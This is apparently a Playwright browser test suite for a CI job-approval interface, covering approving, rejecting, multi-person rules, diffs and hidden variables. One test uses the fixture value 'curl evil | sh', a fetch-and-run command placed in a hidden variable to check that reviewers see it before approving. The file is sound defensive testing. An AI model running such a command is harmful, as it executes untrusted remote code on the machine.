import type { Page } from 'playwright-core';
import { describe, expect, it, vi } from 'vitest';
import { ended, enqueue, type JobWish } from '../support/page/jobs.ts';
import { scrollThrough } from '../support/page/scroll.ts';
import { stageOfFile } from '../support/page/stage.ts';

const TWO = `rules:
  - { name: maintainers, access_level: maintainer, count: 2 }
`;
// A browser on a machine that others use, too.
vi.setConfig({ testTimeout: 90_000, hookTimeout: 90_000 });
const stage = stageOfFile();

const approveButton = { name: 'Approve', exact: true } as const;
/** A job that waits; the same job was approved before with another script. */
async function changed(before: JobWish, after: JobWish) {
  const first = enqueue(stage.scene, before);
  await stage.scene.approve(first);
  await ended(stage.scene, first, 'success');
  const job = enqueue(stage.scene, after);
  return { job, hold: await stage.scene.hold(job, 'waiting_for_approval') };
}
async function fresh(wish: JobWish = {}) {
  const job = enqueue(stage.scene, wish);
  return { job, hold: await stage.scene.hold(job, 'waiting_for_approval') };
}

describe('a Review in the browser', () => {
  it('T13 is approved from the link of a note: what changed is seen, the digest of what is shown is sent, the job runs', async () => {
    await stage.open();
    const image = (tag: string): JobWish => ({ script: ['make'], image: `registry.example.com/ops/deployer:${tag}` });
    const { job, hold } = await changed(image('4'), image('5'));
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await page.getByText('First time this job wants image registry.example.com/ops/deployer:5').waitFor();
    expect(await page.locator('ins').allTextContents()).toEqual(['5']);
    expect(await page.locator('del').allTextContents()).toEqual(['4']);
    expect(await page.locator('.digest').textContent()).toBe(hold.digest);
    const sent = page.waitForRequest((request) => request.url().endsWith('/approve'));
    await page.getByRole('button', approveButton).click();
    expect((await sent).postDataJSON()).toMatchObject({
      digest: hold.digest,
      scope: expect.stringContaining('ref=exact'),
    });
    await page.getByText('Approved by Maria Silva (@maria)').waitFor();
    await ended(stage.scene, job, 'success');
    const done = await stage.scene.hold(job, 'success');
    expect(done.votes).toMatchObject([{ person: { username: 'maria' }, decision: 'approve' }]);
    // One's own decision goes on by itself, and nothing on the page says anything else.
    await page.locator('.head').getByText('Success', { exact: true }).waitFor();
    await page.getByText('Approved by Maria Silva (@maria). It has run, with success.').waitFor();
    const main = (await page.locator('main').textContent()) ?? '';
    expect(main).not.toMatch(/waits for its runner|as it is now|has changed|kept running|Cancel job|pending/);
    // What was approved is still there to be seen, beside what stood before it.
    await page.getByRole('heading', { name: 'What was different' }).waitFor();
    expect(await page.locator('ins').allTextContents()).toEqual(['5']);
    await page.reload();
    await page.getByRole('heading', { name: 'What was different' }).waitFor();
    expect(await page.locator('ins').allTextContents()).toEqual(['5']);
    expect(await page.locator('del').allTextContents()).toEqual(['4']);
  });

  it('is rejected with a comment, and not without one', async () => {
    await stage.open();
    const { job, hold } = await fresh({ script: ['make'] });
    const page = await stage.see('maria', `/reviews/${hold.review}`);
    const reject = page.getByRole('button', { name: 'Reject', exact: true });
    await reject.waitFor();
    expect(await reject.isDisabled()).toBe(true);
    await page.getByText('Reject is off: a reject needs a comment').waitFor();
    await page.getByLabel('Comment').fill('not like this');
    await reject.click();
    await page.getByText('Rejected by Maria Silva (@maria)').waitFor();
    await ended(stage.scene, job, 'failed');
    expect(await stage.scene.hold(job, 'rejected')).toMatchObject({ reason: expect.stringContaining('not like this') });
  });

  it('T15 is rejected and remembered: the next job with that configuration is refused at once', async () => {
    await stage.open();
    const { hold } = await fresh({ script: ['make bad'] });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await page.getByLabel('Comment').fill('never');
    await page.getByRole('button', { name: 'Reject and remember' }).click();
    await page.getByText('Rejected by Maria Silva (@maria)').waitFor();
    const next = enqueue(stage.scene, { script: ['make bad'] });
    await ended(stage.scene, next, 'failed');
    expect(stage.scene.gitlab.job(next).trace).toContain('never');
  });

  it('T57 stays unapproved until hidden values were revealed, which are seen here and nowhere else', async () => {
    await stage.open();
    const variables = [{ key: 'HOOK', value: 'curl evil | sh', public: false, masked: false }];
    const { job, hold } = await fresh({ script: ['make'], variables });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await page.getByText('Approve is off: a hidden value has not been seen: reveal first').waitFor();
    expect(await page.getByRole('button', approveButton).isDisabled()).toBe(true);
    await page.getByRole('button', { name: 'Reveal' }).click();
    await page.getByText('curl evil | sh').waitFor();
    await scrollThrough(page);
    await page.getByRole('button', approveButton).click();
    await page.getByText('Approved by Maria Silva (@maria)').waitFor();
    await ended(stage.scene, job, 'success');
    expect(await page.evaluate('JSON.stringify([localStorage, sessionStorage])')).toBe('[{},{}]');
  });

  it('T18 tells why I cannot approve and whom to ask, and lets me reject what is my own', async () => {
    await stage.open();
    const { hold } = await fresh({ options: { user: { id: 21, username: 'maria', name: 'Maria Silva' } } });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await page.getByText('You cannot approve it: you triggered the job').waitFor();
    await page.getByText('Ask Jonas Berg (@jonas).').waitFor();
    expect(await page.getByRole('button', approveButton).isDisabled()).toBe(true);
    await page.getByLabel('Comment').fill('my mistake');
    await page.getByRole('button', { name: 'Reject', exact: true }).click();
    await page.getByText('Rejected by Maria Silva (@maria)').waitFor();
  });

  it('T32 shows no tags of hidden values to a reporter, and says so', async () => {
    await stage.open();
    const variables = [{ key: 'TYPED', value: 'something', public: false, masked: false }];
    const { hold } = await fresh({ variables });
    const page = await stage.see('rob', `/holds/${hold.id}`);
    await page.getByText('Some values are hidden from you').waitFor();
    const text = (await page.locator('main').textContent()) ?? '';
    expect(text).not.toMatch(/hmac:[0-9a-f]{6}/);
    expect(text).toContain('hmac:hidden');
    expect(await page.getByRole('button', { name: 'Reveal' }).count()).toBe(0);
  });

  it('goes on waiting while a rule is short of people, and tells who can help', async () => {
    await stage.open({ extra: 'policy: policy.yaml', files: { 'policy.yaml': TWO } });
    const { job, hold } = await fresh({ script: ['make'] });
    const maria = await stage.see('maria', `/holds/${hold.id}`);
    await scrollThrough(maria);
    await maria.getByRole('button', approveButton).click();
    await maria.getByText('Your vote is recorded. It still waits').waitFor();
    await maria.getByText('maintainers 1 of 2').waitFor();
    const jonas = await stage.see('jonas', `/holds/${hold.id}`);
    await scrollThrough(jonas);
    await jonas.getByRole('button', approveButton).click();
    await jonas.getByText('Approved by Maria Silva (@maria) and Jonas Berg (@jonas)').waitFor();
    await ended(stage.scene, job, 'success');
  });

  it('T13 stops the buttons when it changes meanwhile, and says what has changed', async () => {
    await stage.open({ extra: 'policy: policy.yaml', files: { 'policy.yaml': TWO } });
    const { hold } = await fresh({ script: ['make'] });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    await scrollThrough(page);
    await page.getByRole('button', { ...approveButton, disabled: false }).waitFor();
    const jonas = await stage.scene.as('jonas');
    await jonas.post(`holds/${hold.id}/approve`, { digest: hold.digest });
    await page.getByText('This has changed while you looked at it.', { exact: true }).waitFor();
    await page.getByText('Jonas Berg (@jonas) has approved it', { exact: true }).waitFor();
    expect(await page.getByRole('button', approveButton).isDisabled()).toBe(true);
    await page.getByRole('button', { name: 'Show it as it is now' }).click();
    await page.getByText('maintainers 1 of 2').waitFor();
    await scrollThrough(page);
    await page.getByRole('button', { ...approveButton, disabled: false }).waitFor();
    await jonas.post(`holds/${hold.id}/reject`, { digest: hold.digest, comment: 'on second thoughts' });
    await page
      .getByRole('listitem')
      .filter({ hasText: 'it is “Rejected” now, and was “Waiting for approval”' })
      .waitFor();
  });

  it('compares with what I choose: the nearest, the last run, or nothing', async () => {
    await stage.open();
    const one = enqueue(stage.scene, { script: ['make one'] });
    await stage.scene.approve(one);
    await ended(stage.scene, one, 'success');
    const { hold } = await changed({ script: ['make two', 'x', 'y', 'z'] }, { script: ['make one', 'more'] });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    const lines = () => page.locator('.line-added code, .line-removed code').allTextContents();
    await page.getByText('What would change').waitFor();
    expect(await lines()).toEqual(['more']);
    await page.getByLabel('Compared with').selectOption({ label: (await optionWith(page, 'last run')) ?? '' });
    await page.getByText('what ran on').waitFor();
    expect(await lines()).toContain('make two');
    await page.getByLabel('Compared with').selectOption('nothing');
    await page.getByText('Compared with nothing, all of it is shown as new').waitFor();
    expect((await lines()).length).toBeGreaterThan(20);
  });

  it('says exactly what is allowed, and sends that', async () => {
    await stage.open();
    const { hold } = await changed({ script: ['a'] }, { script: ['b'] });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    const allowed = page.locator('.allowed');
    await allowed.getByText('refs/heads/main only (protected)').waitFor();
    await allowed.getByText('environment production only').waitFor();
    await page.getByText('Change what your approve covers').click();
    await page.getByLabel('How long').selectOption('uses');
    await page.getByLabel('Runs', { exact: true }).fill('3');
    await allowed.getByText('for 3 runs, whichever come first').waitFor();
    await page.getByLabel('How long').selectOption('run');
    await page.getByLabel('Runners').selectOption('this');
    await allowed.getByText('once: this run and no other').waitFor();
    await allowed.getByText('runners prod-deployer-01 only').waitFor();
    const sent = page.waitForRequest((request) => request.url().endsWith('/approve'));
    await page.getByRole('button', approveButton).click();
    expect((await sent).postDataJSON()).toMatchObject({
      lifetime: 'run',
      scope: 'ref=exact inputs=same_pipeline runners=prod-deployer-01',
    });
    await page.getByText('Approved by Maria Silva (@maria)').waitFor();
  });

  it('shows what no approval covers, with the values of this run that scripts put in', async () => {
    await stage.open();
    const { hold } = await fresh({ script: ['echo "$CI_COMMIT_TITLE"'] });
    const page = await stage.see('maria', `/holds/${hold.id}`);
    const row = page.getByRole('row').filter({ hasText: 'variables.CI_COMMIT_TITLE' }).first();
    await row.waitFor();
    expect(await row.textContent()).toContain('Fix rounding in ledger exports');
    expect(await row.textContent()).toContain('Used in steps[0].script[0]');
  });
});

async function optionWith(page: Page, words: string): Promise<string | undefined> {
  const labels = await page.getByLabel('Compared with').locator('option').allTextContents();
  return labels.find((label) => label.includes(words));
}
